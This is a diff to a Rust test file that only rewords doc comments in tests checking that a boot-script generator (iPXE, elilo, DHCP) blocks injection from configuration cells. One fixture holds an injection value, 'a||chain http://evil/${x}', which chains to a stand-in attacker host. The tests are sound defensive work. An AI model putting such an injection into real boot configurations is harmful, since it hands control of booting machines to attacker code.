@@ -252,7 +252,7 @@ fn who_is_a_node_is_not_for_others() {
     }
 }
 
-/// iPXE shows nobody the text of a refusal, so the reason comes as a script.
+/// iPXE does not show the text of a refusal, so the reason is sent as a script.
 #[test]
 fn a_node_without_a_plan_says_why_on_its_screen() {
     let broken: &[(&str, &str)] = &[("node", "cn1"), ("addkcmdline", "a||chain http://evil/${x}")];
@@ -463,7 +463,7 @@ fn a_statelite_root_in_memory_is_fetched() {
     );
 }
 
-/// Beside another DHCP server `${next-server}` is that server.
+/// Next to another DHCP server, `${next-server}` is that server.
 #[test]
 fn a_script_beside_another_dhcp_server_names_ours() {
     let net: &[(&str, &str)] = &[("netname", "campus"), ("net", "10.1.0.0"), ("mask", "/16")];
@@ -483,8 +483,8 @@ fn a_script_beside_another_dhcp_server_names_ours() {
 }
 
 proptest::proptest! {
-    /// Whatever a cell or a name holds, a boot file has the lines it always has, and nothing in them that was
-    /// not ours is a variable or ends a command.
+    /// For any content of cells and names, a boot file has its usual lines, and no foreign text in them is a
+    /// variable or ends a command.
     #[test]
     fn no_cell_breaks_out_of_a_script(
         cell in ".{0,40}|[ a|&;#$`{}\"'\\\\\n\r%:-]{0,12}",
@@ -521,7 +521,7 @@ fn odd_names_get_no_script() {
     }
 }
 
-/// elilo replaces `%` and a letter wherever they stand, and has no quote for it.
+/// elilo replaces `%` and a letter at any place, and has no way to quote them.
 #[test]
 fn elilo_gets_no_percent_sign_of_a_cell() {
     let snapshot = snapshot(vec![("bootparams", &[("node", "cn1"), ("addkcmdline", "tz=%N")])]);
